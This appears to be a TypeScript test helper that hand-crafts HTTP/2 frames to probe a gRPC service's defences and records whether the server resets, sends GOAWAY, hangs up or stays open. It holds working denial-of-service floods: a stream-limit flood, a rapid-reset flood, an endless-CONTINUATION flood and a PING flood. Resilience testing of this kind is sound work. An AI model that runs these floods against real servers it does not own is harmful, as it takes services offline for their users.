// SPDX-License-Identifier: Apache-2.0
// HTTP/2 frames by hand (RFC 9113), for what no library sends: streams beyond the limit, opened and reset
// at once, headers that never end, answers that nobody reads.

import type { TLSSocket } from "node:tls";

const preface = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const types = { headers: 1, reset: 3, settings: 4, ping: 6, goaway: 7, continuation: 9 };
const endHeaders = 4;
const MiB = 1_024 * 1_024;
const answerMsMax = 10_000;

/** @returns `goaway`, `reset`, `hung_up`, or `answered` where a call was, or `still_open`; each that came. */
export async function sendFrames(what: keyof typeof attacks, socket: TLSSocket): Promise<string[]> {
  const seen = watch(socket, what !== "pings");
  const ended = new Promise<void>((resolve) => socket.once("close", () => resolve()));
  socket.write(Buffer.concat([preface, frame("settings", { payload: Buffer.alloc(0) })]));
  for await (const bytes of attacks[what]()) {
    if (socket.destroyed || seen.has("goaway")) break;
    if (!socket.write(bytes))
      await Promise.race([ended, new Promise((resolve) => socket.once("drain", resolve)), wait()]);
  }
  for (let waitedMs = 0; waitedMs < answerMsMax && !isDecided(seen, socket); waitedMs += 50)
    await new Promise((resolve) => setTimeout(resolve, 50));
  if (socket.closed || socket.destroyed) seen.add("hung_up");
  if (seen.size === 0) seen.add("still_open");
  socket.destroy();
  return [...seen];
}

function isDecided(seen: ReadonlySet<string>, socket: TLSSocket): boolean {
  return seen.size > 0 || socket.closed;
}

const attacks = {
  streams: async function* () {
    for (let stream = 1; stream < 6_000; stream += 2) yield headers(stream, endHeaders);
  },
  resets: async function* () {
    for (let stream = 1; stream < 40_000; stream += 2)
      yield Buffer.concat([
        headers(stream, endHeaders),
        frame("reset", { stream, payload: Buffer.from([0, 0, 0, 8]) }),
      ]);
  },
  continuations: async function* () {
    yield headers(1, 0);
    const field = Buffer.concat([literal("x-a", "b".repeat(100))]);
    const payload = Buffer.concat(Array.from({ length: 150 }, () => field));
    for (let sent = 0; sent < 64 * MiB; sent += payload.length)
      yield frame("continuation", { stream: 1, payload });
  },
  pings: async function* () {
    const ping = frame("ping", { payload: Buffer.alloc(8) });
    const many = Buffer.concat(Array.from({ length: 1_000 }, () => ping));
    for (let sent = 0; sent < 2_000; sent++) yield many;
  },
} satisfies Record<string, () => AsyncGenerator<Buffer>>;

function frame(
  type: keyof typeof types,
  { stream = 0, flags = 0, payload }: { stream?: number; flags?: number; payload: Buffer },
): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = types[type];
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** A call of ListSources, its fields spelled out (RFC 7541 part 6.2.2) but for method and scheme. */
function headers(stream: number, flags: number): Buffer {
  const payload = Buffer.concat([
    Buffer.from([0x83, 0x87]),
    indexed(4, "/model_express.p2p.P2pService/ListSources"),
    indexed(1, "relight"),
    literal("te", "trailers"),
    literal("content-type", "application/grpc"),
  ]);
  return frame("headers", { stream, flags, payload });
}

function indexed(name: number, value: string): Buffer {
  return Buffer.concat([Buffer.from([name, value.length]), Buffer.from(value)]);
}

function literal(name: string, value: string): Buffer {
  const [head, middle] = [Buffer.from([0, name.length]), Buffer.from([value.length])];
  return Buffer.concat([head, Buffer.from(name), middle, Buffer.from(value)]);
}

/** Frames of the other side that end something. */
function watch(socket: TLSSocket, isReading: boolean): Set<string> {
  const seen = new Set<string>();
  let rest = Buffer.alloc(0);
  if (!isReading) return seen;
  socket.on("data", (bytes: Buffer) => {
    rest = Buffer.concat([rest, bytes]);
    while (rest.length >= 9) {
      const length = rest.readUIntBE(0, 3);
      if (rest.length < 9 + length) break;
      if (rest[3] === types.goaway) seen.add("goaway");
      if (rest[3] === types.reset) seen.add("reset");
      if (rest[3] === types.headers) seen.add("answered");
      rest = rest.subarray(9 + length);
    }
  });
  return seen;
}

function wait(): Promise<void> {
  return new Promise((resolve) => setTimeout(resolve, 20));
}
